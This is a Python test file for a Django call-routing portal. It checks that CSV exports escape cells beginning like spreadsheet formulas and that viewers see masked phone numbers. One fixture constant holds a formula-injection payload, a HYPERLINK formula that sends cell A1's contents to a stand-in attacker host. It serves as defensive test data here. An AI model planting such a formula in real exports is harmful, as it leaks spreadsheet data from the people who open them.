"""CSV formula injection: text a spreadsheet would run as a formula is escaped in every CSV
export (the reports page and the report API), by one helper."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from callgrid_portal.csvexport import csv_cell
from tests.conftest import page_client
from tests.factories import BidLogFactory, BuyerFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_prefixed_with_a_quote(start):
    assert csv_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("value", ["Acme", "-12.50", "+3", 42, None, "a=b"])
def test_plain_text_and_numbers_are_written_as_they_are(value):
    assert csv_cell(value) == value


@pytest.fixture
def evil_buyer(db):
    buyer = BuyerFactory(name=FORMULA)
    BidLogFactory(buyer=buyer)
    return buyer


def _cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def test_the_reports_page_csv_escapes_a_buyer_name_that_is_a_formula(alice, evil_buyer):
    response = page_client(alice).get(reverse("reports"), {"range": "24h", "export": "buyers"})
    cells = _cells(response.content)
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_the_report_api_csv_escapes_a_buyer_name_that_is_a_formula(viewer_api, evil_buyer):
    response = viewer_api.get("/api/v1/reports/summary/", {"format": "csv"})
    assert response.status_code == 200
    cells = _cells(response.content)
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_viewers_read_phone_numbers_masked_in_csv_downloads(alice, bob, db):
    buyer = BuyerFactory(name="Acme 303-555-1234")
    BidLogFactory(buyer=buyer)
    query = {"range": "24h", "export": "buyers"}
    viewer = page_client(alice).get(reverse("reports"), query).content.decode()
    assert "Acme 303***1234" in viewer and "555-1234" not in viewer
    operator = page_client(bob).get(reverse("reports"), query).content.decode()
    assert "Acme 303-555-1234" in operator
